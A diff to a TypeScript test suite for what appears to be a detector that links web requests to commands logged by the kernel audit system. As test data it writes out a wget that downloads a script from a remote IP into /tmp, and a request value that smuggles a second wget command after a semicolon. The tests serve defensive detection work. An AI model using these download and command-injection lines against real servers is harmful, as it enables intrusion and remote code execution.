@@ -7,7 +7,7 @@ const FETCH = 'wget http://198.51.100.66/x.sh -O /tmp/x.sh';
 
 /** What the kernel wrote of a program of the web server's, some seconds after the request. */
 function ran(args: readonly string[], exe: string, after = 1): string {
-  const id = `audit(${(AT + after).toFixed(3)}:${100 + after})`;
+  const id = `audit(${(AT + after).toFixed(3)}:${100 + Math.abs(after)})`;
   const hex = (word: string) =>
     /^[\w./:-]+$/.test(word) ? `"${word}"` : Buffer.from(word).toString('hex').toUpperCase();
   return [
@@ -71,4 +71,12 @@ test('not who blocks, looks up or reports the attacker', async () => {
     ran(['curl', '-s', 'https://api.example.com/report', '-d', `ip=${ATTACKER}`], '/usr/bin/curl', 3),
   ];
   expect(await told(query, blocks.join('\n'))).toMatchObject({ verdict: 'attacked', led: [] });
+});
+
+test('not what the server does anyway, nor what it fetches from itself', async () => {
+  const habit = [ran(FETCH.split(' '), '/usr/bin/wget', -600), ran(FETCH.split(' '), '/usr/bin/wget', 2)];
+  expect(await told(query, habit.join('\n'))).toMatchObject({ verdict: 'attacked', led: [] });
+  const inside = 'wget http://127.0.0.1/x.sh -O /tmp/y.sh';
+  const probe = encodeURIComponent('127.0.0.1;wget http://127.0.0.1/z.sh');
+  expect(await told(probe, ran(inside.split(' '), '/usr/bin/wget'))).toMatchObject({ verdict: 'attacked', led: [] });
 });
